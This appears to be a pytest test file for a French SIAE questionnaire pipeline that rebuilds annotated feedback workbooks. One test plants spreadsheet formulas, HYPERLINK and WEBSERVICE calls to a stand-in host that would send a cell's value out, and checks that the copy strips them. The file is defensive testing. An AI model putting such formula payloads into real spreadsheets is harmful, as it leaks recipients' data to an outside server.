"""The annotated workbook sent back to a SIAE: rebuilt from the answers read, for the SIAE."""

from __future__ import annotations

import hashlib
import io
import time

import pandas as pd
import pytest

from iae_etat.questionnaire.feedback import CORRECTIONS_SHEET, answer_cells, retour_workbook
from iae_etat.sources.stage import read_envoi
from tests.questionnaire.fixtures import (
    EPCIS,
    KIND,
    KNOWN,
    MILLESIME,
    SIRET,
    VALID,
    contracts,
    edit,
    ods_bytes,
    sheets_of,
    workbook,
    write,
)


def _annotated(tmp_path, data: bytes, name: str = f"{SIRET}_{KIND}.xlsx", **options):
    """Read a return as the ingest does, then write its annotated workbook from what was read."""
    from openpyxl import load_workbook

    path = write(tmp_path, name, data)
    contract, residence = contracts()
    envoi, problems = read_envoi(path, name, contract, residence, MILLESIME, KNOWN)
    frame = pd.DataFrame([p.as_row() for p in problems], columns=list(problems[0].as_row())
                         if problems else None)
    _annotated.started = time.perf_counter()  # the cost of the copy alone, reading apart
    copy = retour_workbook(contract, MILLESIME, envoi.lues, frame, residence_contract=residence,
                           epcis=EPCIS, **options)
    return copy, (load_workbook(io.BytesIO(copy)) if copy else None), path


@pytest.mark.parametrize("suffix", [".xlsx", ".ods"])
def test_a_dont_over_its_total_is_marked_for_the_siae_in_plain_french(tmp_path, suffix):
    data = workbook({**VALID, "brsa": 61})  # 61 BRSA among 60 salariés
    if suffix == ".ods":
        data = ods_bytes(sheets_of(data))
    name = f"{SIRET}_{KIND}{suffix}"
    copy, wb, path = _annotated(tmp_path, data, name, echeance="31/03/2026")
    before = hashlib.sha256(path.read_bytes()).hexdigest()
    assert copy == _annotated(tmp_path, data, name, echeance="31/03/2026")[0]
    assert hashlib.sha256(path.read_bytes()).hexdigest() == before
    assert wb.sheetnames[0] == CORRECTIONS_SHEET
    assert wb.sheetnames.count(CORRECTIONS_SHEET) == 1
    cell = wb["Publics"]["C4"]
    assert cell.value == 61 and cell.fill.fgColor.rgb.endswith("F8CBAD")
    assert cell.comment.text.startswith("À corriger : « dont bénéficiaires du RSA » (61)")
    first = wb[CORRECTIONS_SHEET]
    text = "\n".join(str(v) for row in first.iter_rows(values_only=True) for v in row if v)
    assert "questionnaire." not in text and "data/raw" not in text  # no rule code, no path
    assert "avant le 31/03/2026" in text
    rows = [r for r in first.iter_rows(min_row=8, values_only=True) if r[0]]
    assert [(r[0], r[1], r[3], r[4]) for r in rows] == [("Publics", "C4", 61, "À corriger")]
    assert wb["_tampon"].sheet_state == "veryHidden"
    stamp = {r[0]: r[1] for r in wb["_tampon"].iter_rows(values_only=True)}
    assert (stamp["siret"], stamp["type_siae"], stamp["millesime"]) == (SIRET, KIND, "2025")


def test_answers_that_follow_the_instructions_give_no_workbook(tmp_path):
    # « 19,8 » is how the instructions ask for decimals, « 640 000 » a grouped number, and the
    # file was renamed: the consultant sees three remarks, the SIAE has nothing to do.
    data = workbook({**VALID, "etp_realises": "19,8", "chiffre_affaires": "640 000"})
    copy, wb, _ = _annotated(tmp_path, data, name="questionnaire rempli.xlsx")
    assert copy is None


def test_the_copy_carries_values_only_and_no_earlier_mark(tmp_path):
    from openpyxl.comments import Comment

    contract, _ = contracts()

    def hostile(wb):
        wb["Publics"]["C4"] = 61
        wb["Publics"]["C4"].comment = Comment("Erreur : 92 dépasse 85 (ancien envoi)", "x")
        sheet, cell = answer_cells(contract, None, None)["partenariats"]
        wb[sheet][cell] = '=HYPERLINK("http://exemple.invalid/?d="&C4,"site")'
        wb.create_sheet("Anomalies", 0)
        wb["Anomalies"]["A1"] = '=WEBSERVICE("http://exemple.invalid/")'

    copy, wb, _ = _annotated(tmp_path, edit(workbook(), hostile))
    assert wb.sheetnames.count("Anomalies") == 0 and wb.sheetnames[0] == CORRECTIONS_SHEET
    with __import__("zipfile").ZipFile(io.BytesIO(copy)) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist())
    assert b"<f>" not in xml and b"WEBSERVICE" not in xml and b"exemple.invalid" not in xml
    assert "92 dépasse 85" not in wb["Publics"]["C4"].comment.text
    # the formula's cell is listed for the SIAE to type its value; the sender's own sheet is not
    listed = [r[:2] for r in wb[CORRECTIONS_SHEET].iter_rows(min_row=8, values_only=True)
              if r[0]]
    assert listed == [("Publics", "C4"), answer_cells(contract, None, None)["partenariats"]]


def test_the_copy_of_a_huge_return_costs_a_questionnaire(tmp_path):
    def padded(wb):
        wb["Publics"]["C4"] = 61
        extra = wb.create_sheet("Brouillon")
        for _ in range(2000):
            extra.append(list(range(50)))  # 100 000 cells the copy must not carry

    copy, wb, _ = _annotated(tmp_path, edit(workbook(), padded))
    elapsed = time.perf_counter() - _annotated.started
    assert "Brouillon" not in wb.sheetnames
    assert len(copy) < 60_000, len(copy)
    assert elapsed < 10
